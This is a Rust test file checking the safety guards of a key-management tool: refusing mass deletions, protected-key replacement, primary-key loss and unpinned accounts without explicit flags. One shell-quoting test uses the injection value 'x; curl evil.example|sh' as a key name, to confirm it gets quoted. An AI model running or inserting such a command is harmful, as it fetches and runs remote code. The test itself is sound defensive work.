//! Guards: plans that are refused unless a flag allows them.

#![cfg(test)]

mod support;

use keyform::names::{KeyName, UserId};
use keyform::plan::guard::{Acknowledged, Stage, refusals};
use keyform::plan::{Change, Plan};
use support::world::{listing, plan};

fn many(count: usize) -> String {
    let letters = ('A'..='Z').take(count);
    letters.enumerate().map(|(index, letter)| format!("k{index}={letter}#{} ", index + 1)).collect()
}

fn tripped(plan: &Plan, acknowledged: &Acknowledged, stage: Stage) -> Vec<String> {
    refusals(plan, acknowledged, stage)
        .iter()
        .map(|refusal| format!("{}; {}", refusal.message(), refusal.help()))
        .collect()
}

#[track_caller]
fn trips(plan: &Plan, words: &[&str]) {
    let none = Acknowledged::default();
    let found = tripped(plan, &none, Stage::Apply);
    assert_eq!(found.len(), words.len(), "{found:?}");
    for word in words {
        assert!(found.iter().any(|refusal| refusal.contains(word)), "{word}: {found:?}");
    }
}

#[test]
fn plans_without_deletions_need_no_flag() {
    trips(&plan("a=A b=B*", "", "z=Z#9"), &[]);
    trips(&plan("a=A", "a=A#1", ""), &["--allow-empty-account"]);
    trips(&plan("a=A b=B", "a=A#1 b=B#2", "b=B#2"), &[]);
    trips(&plan("", "", ""), &[]);
}

#[test]
fn many_deletions_and_deletions_of_most_keys_are_refused() {
    trips(&plan("b=B", "a=A#1 b=B#2", "a=A#1 b=B#2"), &[]);
    trips(&plan("", "a=A#1 b=B#2", "a=A#1 b=B#2"), &["--allow-deletes 2"]);
    trips(&plan("", "a=A#1", "a=A#1"), &["--allow-deletes 1"]);
    trips(&plan("a=A b=B", "a=A#1 b=B#2 c=C#3", "a=A#1 b=B#2 c=C#3"), &[]);
    trips(&plan("a=A", "a=A#1 b=B#2 c=C#3", "a=A#1 b=B#2 c=C#3"), &["--allow-deletes 2"]);
    let state = many(26);
    // 10 of 26 managed keys are deleted: neither most of them nor more than ten.
    let desired: String =
        ('A'..='Z').take(16).enumerate().map(|(index, letter)| format!("k{index}={letter} ")).collect();
    trips(&plan(&desired, &state, &state), &[]);
    let fewer: String = desired.split_whitespace().take(15).map(|word| format!("{word} ")).collect();
    trips(&plan(&fewer, &state, &state), &["--allow-deletes 11"]);
    let acknowledged = Acknowledged { deletes: 11, ..Acknowledged::default() };
    assert_eq!(tripped(&plan(&fewer, &state, &state), &acknowledged, Stage::Apply), [""; 0]);
    let too_few = Acknowledged { deletes: 10, ..Acknowledged::default() };
    assert_eq!(tripped(&plan(&fewer, &state, &state), &too_few, Stage::Apply).len(), 1);
}

#[test]
fn a_protected_key_is_replaced_only_if_a_flag_names_it() {
    let rotated = plan("a=B! c=C", "a=A#1! c=C#2", "a=A#1 c=C#2");
    trips(&rotated, &["--allow-protected a"]);
    let named = Acknowledged { protected: vec![KeyName::new("a").unwrap()], ..Acknowledged::default() };
    assert_eq!(tripped(&rotated, &named, Stage::Apply), [""; 0]);
    let other = Acknowledged { protected: vec![KeyName::new("c").unwrap()], ..Acknowledged::default() };
    assert_eq!(tripped(&rotated, &other, Stage::Apply).len(), 1);
}

#[test]
fn a_name_in_the_help_of_a_refusal_is_quoted_for_a_shell() {
    for (name, flag) in [
        ("x; curl evil.example|sh", "--allow-protected 'x; curl evil.example|sh'"),
        ("it's", r"--allow-protected 'it'\''s'"),
        ("-y", "--allow-protected=-y"),
    ] {
        let mut plan = plan("a=B! c=C", "a=A#1! c=C#2", "a=A#1 c=C#2");
        for action in &mut plan.actions {
            action.name = KeyName::recorded(name);
        }
        trips(&plan, &[flag]);
    }
}

#[test]
fn the_primary_key_is_deleted_only_if_another_is_promoted() {
    let state = "a=A#1 b=B#2 c=C#3";
    trips(&plan("b=B c=C", state, "a=A#1* b=B#2 c=C#3"), &["--allow-primary-loss"]);
    trips(&plan("b=B* c=C", state, "a=A#1* b=B#2 c=C#3"), &[]);
    trips(&plan("a=X b=B c=C", state, "a=A#1* b=B#2 c=C#3"), &[]);
    // The new key is already on the account, and is not the primary.
    let mut adopted = plan("a=X b=B c=C", state, "a=A#1* b=B#2 c=C#3 x=X#4");
    trips(&adopted, &[]);
    for action in &mut adopted.actions {
        if let Change::Replace { promote, .. } = &mut action.change {
            *promote = false;
        }
    }
    trips(&adopted, &["--allow-primary-loss"]);
    // If a target excludes the promotion, the guard still trips.
    let mut partial = plan("a=X b=B* c=C", state, "a=A#1* b=B#2 c=C#3");
    trips(&partial, &[]);
    partial.limit_to(&[KeyName::new("a").unwrap()]);
    trips(&partial, &["--allow-primary-loss"]);
    assert_eq!(partial.primary, None, "an excluded promotion must not happen after all");
}

#[test]
fn without_a_listing_any_key_may_be_the_primary() {
    let offline = plan("b=B c=C", "a=A#1 b=B#2 c=C#3", "offline");
    trips(&offline, &["which may be the primary key"]);
    // Showing the plan is allowed: a pull request from a fork cannot list the account.
    assert_eq!(tripped(&offline, &Acknowledged::default(), Stage::Plan), [""; 0]);
    let acknowledged = Acknowledged { primary_loss: true, ..Acknowledged::default() };
    assert_eq!(tripped(&offline, &acknowledged, Stage::Apply), [""; 0]);
    // A saved plan is checked again when it is applied.
    let mut seen = offline.clone();
    seen.observe(&listing("a=A#1* b=B#2 c=C#3"));
    trips(&seen, &["the primary key, and promotes no other key"]);
    let mut seen = offline;
    seen.observe(&listing("a=A#1 b=B#2* c=C#3"));
    trips(&seen, &[]);
}

#[test]
fn an_account_other_than_the_pinned_one_is_refused() {
    let mut pinned = plan("a=A", "", "z=Z#9");
    pinned.pin = Some(UserId::new("user-1").unwrap());
    trips(&pinned, &[]);
    pinned.pin = Some(UserId::new("user-2").unwrap());
    trips(&pinned, &["user-2"]);
}
